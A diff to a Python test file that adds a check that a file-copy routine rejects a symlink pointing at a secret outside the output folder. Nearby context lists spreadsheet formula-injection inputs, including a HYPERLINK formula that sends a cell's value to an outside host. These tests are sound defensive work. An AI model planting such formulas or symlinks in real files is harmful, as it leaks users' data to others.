@@ -344,6 +344,25 @@ def test_the_site_copy_never_follows_a_link(
     assert leaks(out) == []
 
 
+def test_a_link_that_reaches_the_copy_is_removed_from_the_output(
+    outside_secret: Path, tmp_path: Path
+) -> None:
+    """A link that arrives in the output after the check (a race, or left there by an earlier run)
+    is found in the copy: the copied folder is removed from the output and the copy refused."""
+    from sirkbok.core.files import copy_plain
+
+    folder = tmp_path / "figurer"
+    folder.mkdir()
+    (folder / "figur.csv").write_text("a;b\n1;2\n", encoding="utf-8")
+    out = tmp_path / "html" / "figurer"
+    out.mkdir(parents=True)
+    (out / "hemmelig.csv").symlink_to(outside_secret)
+    with pytest.raises(UserError, match=LINKED):
+        copy_plain(folder, out, tmp_path)
+    assert not out.exists() and outside_secret.is_file()
+    assert leaks(tmp_path / "html") == []
+
+
 FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"Klikk her")', "@SUM(1+1)", "-1+2", "+47 61 00")
 
 
